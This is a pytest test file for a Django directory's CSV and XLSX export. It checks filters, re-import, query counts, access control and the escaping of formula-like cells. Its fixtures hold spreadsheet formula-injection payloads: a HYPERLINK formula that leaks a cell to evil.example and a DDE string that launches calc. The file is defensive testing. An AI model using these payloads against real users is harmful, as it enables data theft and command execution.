import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from matchmaking import services
from matchmaking.models import Profile
from matchmaking.services.imports import organization_profile_import
from matchmaking.spreadsheets import COLUMN_NAMES, read_rows
from taxonomy.models import HSHeading
from tests.factories import OrganizationFactory
from tests.matchmaking.bulk_files import code, exporter_row, platform_row, provider_row, xlsx_file

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def export_url(file_format: str) -> str:
    with translation.override("en"):
        return reverse("matchmaking:directory_export", args=[file_format])


def xlsx_rows(content: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert list(header) == list(COLUMN_NAMES)
    return [dict(zip(header, row, strict=True)) for row in rows]


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def exported(client, file_format: str, **filters) -> list[dict]:
    response = client.get(export_url(file_format), filters)
    assert response.status_code == 200, response.content[:300]
    assert "attachment" in response["Content-Disposition"]
    return (xlsx_rows if file_format == "xlsx" else csv_rows)(response.content)


@pytest.fixture
def imported(bureau_staff, taxonomy):
    """Three organizations loaded through the import, as the bureau would."""
    rows = [
        exporter_row(1),
        platform_row(2),
        provider_row(3, district="haidian"),
    ]
    report = organization_profile_import(rows=read_rows(xlsx_file(rows)), by=bureau_staff)
    assert report.created == 3
    return rows


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_cells_that_look_like_formulas_are_escaped(bureau_client, bureau_staff, file_format):
    organization = OrganizationFactory(
        kind="exporter", name_zh=HYPERLINK, name_en="+cmd|' /C calc'!A0"
    )
    services.profile_update(
        organization=organization,
        by=bureau_staff,
        summary_zh="-2+3",
        summary_en="@SUM(A1:A9)",
        contact_phone="+86 10 6512 3456",
    )

    (row,) = exported(bureau_client, file_format)

    assert row["name_zh"] == "'" + HYPERLINK
    assert row["name_en"] == "'+cmd|' /C calc'!A0"
    assert row["summary_zh"] == "'-2+3"
    assert row["summary_en"] == "'@SUM(A1:A9)"
    assert row["contact_phone"] == "'+86 10 6512 3456"


def test_no_formula_reaches_the_workbook(bureau_client, bureau_staff):
    organization = OrganizationFactory(kind="exporter", name_zh=HYPERLINK)
    services.profile_ensure(organization=organization)
    response = bureau_client.get(export_url("xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_an_export_imports_again_unchanged(bureau_client, bureau_staff, imported, file_format):
    versions = dict(Profile.objects.values_list("organization__credit_code", "data_version"))
    response = bureau_client.get(export_url(file_format))
    file = SimpleUploadedFile(f"directory.{file_format}", response.content)

    report = organization_profile_import(rows=read_rows(file), by=bureau_staff)

    assert (report.created, report.updated, report.rejected) == (0, 0, 0), report.rejected_rows
    assert report.unchanged == 3
    assert dict(Profile.objects.values_list("organization__credit_code", "data_version")) == (
        versions
    )


def test_the_export_has_the_profile_data(bureau_client, imported):
    rows = {row["credit_code"]: row for row in exported(bureau_client, "csv")}
    exporter = rows[code(1)]
    assert exporter["hs_headings"] == "9401 9403"
    assert exporter["markets"] == "EU US"
    assert exporter["description_zh"] == "年产能5万张餐桌。\n可做FSC认证。\n\n欢迎平台联系。"
    assert exporter["services_offered"] == ""
    assert exporter["channels_offered"] == ""
    assert rows[code(2)]["channels_offered"] == "marketplace b2b"
    assert rows[code(2)]["visibility"] == "members"
    assert rows[code(2)]["export_volume_band"] == ""


def test_the_export_applies_the_directory_filters(bureau_client, imported):
    def codes(**filters):
        return sorted(row["credit_code"] for row in exported(bureau_client, "csv", **filters))

    assert codes() == [code(1), code(2), code(3)]
    assert codes(kind="platform") == [code(2)]
    assert codes(district="haidian") == [code(3)]
    assert codes(hs_heading="9401") == [code(1)]
    assert codes(hs_chapter="94") == [code(1), code(2)]
    assert codes(market="FR") == [code(1), code(2)]  # the exporter's EU covers France
    assert codes(certification="AEO") == [code(3)]
    assert codes(kind="platform", market="DE") == [code(2)]
    # A bad value drops itself, not the other filters and not the page.
    assert codes(kind="bureau", district="haidian") == [code(3)]
    assert codes(hs_heading="94", market="XX", sort="random") == [code(1), code(2), code(3)]
    names = [row["name_zh"] for row in exported(bureau_client, "csv", sort="name")]
    assert names == sorted(names)


def test_the_export_runs_a_fixed_number_of_queries(bureau_client, bureau_staff, taxonomy):
    def add(count):
        for _ in range(count):
            organization = OrganizationFactory(kind="exporter")
            services.profile_update(
                organization=organization,
                by=bureau_staff,
                relations={"hs_headings": HSHeading.objects.filter(code__in=["9401", "9403"])},
            )

    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert bureau_client.get(export_url("xlsx")).status_code == 200
        return len(captured)

    add(2)
    few = queries()
    add(6)
    assert queries() == few


def test_only_bureau_staff_export(client, org_admin, organization):
    anonymous = client.get(export_url("csv"))
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    client.force_login(org_admin)
    assert client.get(export_url("csv")).status_code == 403
    assert client.get(export_url("xlsx")).status_code == 403


def test_an_unknown_format_is_not_found(bureau_client):
    assert bureau_client.get(export_url("pdf")).status_code == 404
    assert bureau_client.get(export_url("xls")).status_code == 404
